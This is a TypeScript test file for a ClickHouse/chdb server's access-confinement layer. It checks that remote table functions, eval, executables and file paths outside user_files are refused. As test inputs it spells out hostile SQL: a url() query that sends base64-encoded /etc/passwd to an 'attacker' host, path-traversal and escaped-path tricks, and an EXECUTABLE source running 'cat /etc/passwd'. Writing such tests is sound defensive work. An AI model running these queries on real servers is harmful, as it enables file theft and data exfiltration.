import { describe, expect, it } from 'vitest';
import { killTarget } from '../../../src/clickhouse/engine.js';
import { analyzeStatement } from '../../../src/plan/sql-text.js';
import { checkSetting, confineStatement, stringLiteralValue, userFilePath, type TableAccessPolicy } from '../../../src/clickhouse/table-access.js';

// The names chdb 26.7 reports in system.table_functions and system.table_engines/database_engines (a subset).
const policy = (allowRemote = false): TableAccessPolicy => ({
  userFilesDir: '/data/user_files',
  allowRemote,
  tableFunctions: new Set(
    ['file', 'url', 's3', 'remote', 'mysql', 'numbers', 'eval', 'executable', 'icebergLocal', 'filesystem', 'format', 'input'].map((n) => n.toLowerCase()),
  ),
  engines: new Set(['mergetree', 'memory', 'file', 'url', 's3', 'kafka', 'filesystem', 'mysql', 'atomic', 'log', 'executable']),
});

const confine = (sql: string, allowRemote = false): string => confineStatement(sql, analyzeStatement(sql), policy(allowRemote)).sql;

/** The refusal message, or fails when the statement is not refused. */
const refusal = (sql: string, allowRemote = false): string => {
  try {
    confine(sql, allowRemote);
  } catch (e) {
    expect(e).toMatchObject({ code: 497, type: 'ACCESS_DENIED' });
    return (e as Error).message;
  }
  throw new Error(`not refused: ${sql}`);
};

describe('confineStatement: remote table functions', () => {
  it('refuses the exfiltration of the issue, whatever the spelling', () => {
    const exfil =
      "SELECT * FROM url(concat('http://attacker/?d=', (SELECT base64Encode(line) FROM file('/etc/passwd','LineAsString') LIMIT 1)), 'LineAsString')";
    expect(refusal(exfil)).toBe('url() is refused: it reaches other servers, which this server allows only when started with --allow-remote-functions');
    expect(refusal("SELECT * FROM URL('http://a/', 'LineAsString')")).toMatch(/^URL\(\) is refused/);
    expect(refusal("SELECT * FROM `url`('http://a/', 'LineAsString')")).toMatch(/^url\(\) is refused/);
    expect(refusal("SELECT * FROM \"uRl\"('http://a/', 'LineAsString')")).toMatch(/is refused/);
    expect(refusal("SELECT * FROM url /* hidden */ ('http://a/', 'LineAsString')")).toMatch(/is refused/);
    expect(refusal("SELECT * FROM url--x\n('http://a/', 'LineAsString')")).toMatch(/is refused/);
    expect(refusal("INSERT INTO FUNCTION s3('http://a/x.csv') SELECT 1")).toMatch(/^s3\(\) is refused/);
    expect(refusal("SELECT * FROM remote('10.0.0.1:9000', system.one)")).toMatch(/^remote\(\) is refused/);
    expect(refusal("CREATE TABLE t (a String) ENGINE = URL('http://a/', CSV)")).toMatch(/^URL\(\) is refused/);
    expect(refusal("CREATE TABLE t (a String) ENGINE = Kafka SETTINGS kafka_broker_list = 'a:9092'")).toMatch(/^Engine Kafka is refused/);
    expect(refusal("CREATE DATABASE d ENGINE = MySQL('a:3306', 'db', 'u', 'p')")).toMatch(/^MySQL\(\) is refused/);
    expect(refusal("CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(HTTP(url 'http://a/' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)")).toMatch(
      /^Dictionary source HTTP reaches other servers/,
    );
    expect(refusal("CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(CLICKHOUSE(HOST 'a' TABLE 't')) LAYOUT(FLAT()) LIFETIME(0)")).toMatch(
      /^Dictionary source CLICKHOUSE/,
    );
  });

  it('allows them with --allow-remote-functions, and never eval(), programs or other local paths', () => {
    expect(confine("SELECT * FROM url('http://a/', 'LineAsString')", true)).toBe("SELECT * FROM url('http://a/', 'LineAsString')");
    expect(confine("CREATE TABLE t (a String) ENGINE = Kafka SETTINGS kafka_broker_list = 'a:9092'", true)).toMatch(/Kafka/);
    expect(refusal("SELECT * FROM eval(concat('SELECT * FROM fi', 'le(1)'))", true)).toMatch(/^eval\(\) is refused: it runs a query built at run time/);
    expect(refusal("SELECT * FROM executable('x.sh', TSV, 'a String')", true)).toMatch(/it runs a program/);
    expect(refusal("SELECT * FROM icebergLocal('/var/lib/x')", true)).toMatch(/reads files outside user_files/);
    expect(refusal("CREATE DATABASE d ENGINE = Filesystem('/etc')", true)).toMatch(/reads a directory outside user_files/);
    expect(refusal("CREATE TABLE t (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '/')", true)).toMatch(/opens a directory/);
    expect(refusal("INSERT INTO t FROM INFILE '/etc/passwd' FORMAT LineAsString", true)).toMatch(/^FROM INFILE is not allowed/);
    expect(refusal("ATTACH TABLE t FROM '/etc' (a String) ENGINE = Log", true)).toMatch(/^ATTACH \.\.\. FROM <path>/);
    expect(
      refusal("CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(EXECUTABLE(command 'cat /etc/passwd' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)", true),
    ).toMatch(/runs a program/);
  });

  it('leaves local statements, and tables named like functions, as they are', () => {
    for (const sql of [
      'SELECT count() FROM numbers(10)',
      "SELECT 'url(1)', `s3` FROM t WHERE url = 'http://x/'",
      'CREATE TABLE url (a UInt8) ENGINE = MergeTree ORDER BY a',
      'CREATE TABLE IF NOT EXISTS s3 (a UInt8) ENGINE = Memory',
      'INSERT INTO url (a) VALUES (1)',
      'SELECT * FROM db.remote(1)',
      "CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(CLICKHOUSE(TABLE 't')) LAYOUT(FLAT()) LIFETIME(0)",
      "SELECT format('{}', 1), * FROM format(CSV, 'a\n1')",
    ]) {
      expect(confine(sql)).toBe(sql);
    }
  });

  it('reads INSERT rows only when they are Values (expressions), not data of other formats', () => {
    expect(confine('INSERT INTO t FORMAT JSONEachRow\n{"u":"url(\'http://a/\')"}')).toMatch(/JSONEachRow/);
    expect(refusal("INSERT INTO t VALUES (toString(url('http://a/', 'LineAsString')))")).toMatch(/^url\(\) is refused/);
    expect(refusal("INSERT INTO t FORMAT Values (file('/etc/passwd'))")).toMatch(/is not inside user_files/);
  });
});

describe('confineStatement: file()', () => {
  it('rewrites relative paths into user_files, the table function, the scalar function and the File engine', () => {
    expect(confine("SELECT * FROM file('a.csv', 'CSV')")).toBe("SELECT * FROM file('/data/user_files/a.csv', 'CSV')");
    expect(confine("SELECT file('dir/b.txt'), file('c.txt')")).toBe("SELECT file('/data/user_files/dir/b.txt'), file('/data/user_files/c.txt')");
    expect(confine("INSERT INTO FUNCTION file('out.csv', 'CSV') SELECT 1")).toBe("INSERT INTO FUNCTION file('/data/user_files/out.csv', 'CSV') SELECT 1");
    expect(confine("CREATE TABLE t (a UInt8) ENGINE = File(CSV, 'x.csv')")).toBe("CREATE TABLE t (a UInt8) ENGINE = File(CSV, '/data/user_files/x.csv')");
    expect(confine('CREATE TABLE t (a UInt8) ENGINE = File(CSV)')).toBe('CREATE TABLE t (a UInt8) ENGINE = File(CSV)');
    expect(confine("SELECT * FROM file('/data/user_files/logs/*.csv')")).toBe("SELECT * FROM file('/data/user_files/logs/*.csv')");
    expect(confine("SELECT * FROM file('part{1..10}.csv')")).toBe("SELECT * FROM file('/data/user_files/part{1..10}.csv')");
    expect(confine("SELECT * FROM `FILE`('it''s.csv')")).toBe("SELECT * FROM `FILE`('/data/user_files/it\\'s.csv')");
  });

  it('refuses paths outside user_files and paths it cannot check', () => {
    expect(refusal("SELECT * FROM file('/etc/passwd', 'LineAsString')")).toBe(
      "File '/etc/passwd' is not inside user_files: file() reads and writes only under /data/user_files",
    );
    expect(refusal("SELECT file('../../etc/passwd')")).toMatch(/goes outside user_files \('\.\.'\)/);
    expect(refusal("SELECT * FROM file('{..,x}/etc/passwd')")).toMatch(/'\.\.'/);
    expect(refusal("SELECT * FROM file('{.,x}./etc/passwd')")).toMatch(/a \{…\} alternative may not contain/);
    expect(refusal("SELECT * FROM file('/data/user_files_other/x')")).toMatch(/is not inside user_files/);
    expect(refusal("SELECT * FROM file(concat('/etc/', 'passwd'))")).toMatch(/must be a string literal/);
    expect(refusal('SELECT * FROM file({p:String})')).toMatch(/must be a string literal/);
    expect(refusal("SELECT file('\\x2fetc/passwd')")).toMatch(/is not inside user_files/);
    expect(refusal("CREATE TABLE t (a String) ENGINE = File(LineAsString, '/etc/passwd')")).toMatch(/is not inside user_files/);
    expect(refusal("CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(FILE(path '/etc/passwd' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)")).toMatch(
      /^Dictionary source FILE is not allowed/,
    );
  });

  it('decodes string literals as ClickHouse does', () => {
    expect(stringLiteralValue("'a\\'b''c\\\\d\\x41'")).toBe("a'b'c\\dA");
    expect(stringLiteralValue('$$/etc/passwd$$')).toBe('/etc/passwd');
    expect(stringLiteralValue('$tag$x$tag$')).toBe('x');
    expect(userFilePath('a/./b.csv', '/u')).toBe('/u/a/b.csv');
  });
});

describe('settings', () => {
  it('refuses another SQL dialect and schema files by path, in the URL and in the statement', () => {
    expect(() => checkSetting('dialect', 'prql')).toThrow("Setting dialect = 'prql' is not allowed by this server (only 'clickhouse')");
    expect(() => checkSetting('dialect', 'clickhouse')).not.toThrow();
    expect(() => checkSetting('format_schema', '/etc/passwd:M')).toThrow(/plain name only/);
    expect(() => checkSetting('format_schema', 'schema:Message')).not.toThrow();
    expect(refusal("SET dialect = 'kusto'")).toMatch(/dialect = 'kusto'/);
    expect(refusal("SELECT 1 SETTINGS format_template_row = '../../etc/passwd'")).toMatch(/plain name only/);
  });
});

describe('killTarget', () => {
  it('reads KILL QUERY WHERE query_id = ... and its mode', () => {
    expect(killTarget("KILL QUERY WHERE query_id = 'q-1'")).toEqual({ queryId: 'q-1', mode: 'ASYNC', modeAt: 33 });
    expect(killTarget("kill query where query_id='q''2' SYNC")).toMatchObject({ queryId: "q'2", mode: 'SYNC', modeAt: 33 });
    expect(killTarget("KILL QUERY WHERE query_id = 'q' TEST FORMAT JSON")).toMatchObject({ mode: 'TEST' });
    expect(killTarget("KILL QUERY WHERE user = 'default'")).toBeUndefined();
    expect(killTarget("KILL QUERY WHERE query_id = 'q' OR 1")).toBeUndefined();
  });
});
